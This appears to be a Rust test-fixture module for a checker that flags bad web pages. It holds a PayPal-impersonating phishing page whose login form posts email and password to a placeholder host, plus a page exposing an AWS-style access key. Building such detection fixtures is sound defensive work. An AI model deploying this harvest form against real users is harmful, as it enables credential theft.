//! Pages that the checks refuse or warn about.

/// A phishing page; the form is on its third line.
pub(crate) const HARVEST: &str = "<!doctype html><title>PayPal: confirm your account</title>\n\
    <h1>Your PayPal account is limited</h1>\n\
    <form method=post action=\"https://collect.invalid/take\"><input name=email placeholder=\"E-mail\">\
    <input type=password name=password placeholder=\"PayPal password\"><button>Log in</button></form>\n";

/// The same with a distinct word, so that it is another page.
pub(crate) fn harvest(word: &str) -> String {
    format!("{HARVEST}<p>{word}</p>\n")
}

/// A page with a leaked key on its second line.
pub(crate) const LEAK: &str = "<!doctype html><title>Notes</title>\n<p>key: AKIAIOSFODNN7EXAMPLQ</p>\n";
